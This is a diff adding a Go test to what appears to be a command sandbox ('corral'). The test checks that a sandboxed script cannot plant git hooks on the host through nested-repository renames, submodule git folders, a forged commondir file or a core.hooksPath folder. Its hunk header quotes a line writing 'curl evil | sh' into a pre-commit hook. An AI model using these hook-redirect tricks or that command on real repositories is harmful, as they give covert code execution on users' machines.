@@ -721,3 +721,68 @@ mkdir -p wt/evil/hooks && echo 'curl evil | sh' > wt/evil/hooks/pre-commit
 		}
 	})
 }
+
+// TestFSGitRedirects attacks git's own ways of finding hooks and config
+// elsewhere: a renamed folder above a nested repository, submodule git
+// folders (named with a slash, or renamed), a commondir file made in the
+// .git folder, and a core.hooksPath folder (husky's .husky) that does not
+// exist yet.
+func TestFSGitRedirects(t *testing.T) {
+	t.Parallel()
+	const hook = "#!/bin/sh\necho evil\n"
+	cases := []struct {
+		name   string
+		plant  map[string]string // files before the run
+		script string
+		bad    []string // host files that must not hold "evil" afterwards
+		absent []string // host files that must not exist afterwards
+	}{
+		{"rename the folder above a nested repository",
+			map[string]string{"vendor/lib/.git/config": "[core]\n", "vendor/lib/.git/HEAD": "ref: refs/heads/main\n"},
+			"mv vendor/lib vendor/lib.old || mv vendor vendor.old\nmkdir -p vendor/lib/.git/hooks\ncp vendor/lib.old/.git/config vendor/lib/.git/ 2>/dev/null\nprintf '" + hook + "' > vendor/lib/.git/hooks/pre-commit",
+			[]string{"vendor/lib/.git/hooks/pre-commit"}, nil},
+		{"submodule named with a slash",
+			map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/modules/libs/foo/HEAD": "ref: refs/heads/main\n", ".git/modules/libs/foo/config": "[core]\n"},
+			"mkdir -p .git/modules/libs/foo/hooks\nprintf '" + hook + "' > .git/modules/libs/foo/hooks/post-checkout",
+			[]string{".git/modules/libs/foo/hooks/post-checkout"}, nil},
+		{"renamed submodule git folder",
+			map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/modules/bar/HEAD": "ref: refs/heads/main\n", ".git/modules/bar/config": "[core]\n"},
+			"mv .git/modules/bar .git/modules/bar.old || mv .git/modules .git/modules.old\nmkdir -p .git/modules/bar/hooks\nprintf '" + hook + "' > .git/modules/bar/hooks/post-checkout",
+			[]string{".git/modules/bar/hooks/post-checkout"}, nil},
+		{"commondir made in .git",
+			map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n"},
+			"mkdir -p evil/hooks\nprintf '[core]\\n\\thooksPath = evil/hooks\\n' > evil/config\nprintf '" + hook + "' > evil/hooks/pre-commit\necho ../evil > .git/commondir",
+			nil, []string{".git/commondir"}},
+		{"core.hooksPath folder that does not exist yet",
+			map[string]string{".git/config": "[core]\n\thooksPath = .husky\n", ".git/HEAD": "ref: refs/heads/main\n"},
+			"mkdir -p .husky\nprintf '" + hook + "' > .husky/pre-commit",
+			[]string{".husky/pre-commit"}, nil},
+	}
+	users(t, func(t *testing.T, u user) {
+		for _, c := range cases {
+			t.Run(c.name, func(t *testing.T) {
+				attack(t, "filesystem", "send git to hooks the command made ("+c.name+")")
+				f := newFS(t, u)
+				var tops []string
+				for p, content := range c.plant {
+					writeFile(t, filepath.Join(f.work, p), content, 0o644)
+					tops = append(tops, filepath.Join(f.work, strings.Split(p, "/")[0]))
+				}
+				own(t, u, tops...)
+				r := runScript(t, u, f.work, nil, c.script)
+				for _, p := range c.bad {
+					if got, _ := os.ReadFile(filepath.Join(f.work, p)); strings.Contains(string(got), "evil") {
+						t.Errorf("%s holds the command's hook on the host:\n%s", p, r)
+					}
+				}
+				for _, p := range c.absent {
+					if _, err := os.Lstat(filepath.Join(f.work, p)); err == nil {
+						t.Errorf("%s is on the host after the run:\n%s", p, r)
+					} else if !strings.Contains(r.stderr, "removed it") {
+						t.Errorf("corral did not say it removed %s:\n%s", p, r)
+					}
+				}
+			})
+		}
+	})
+}
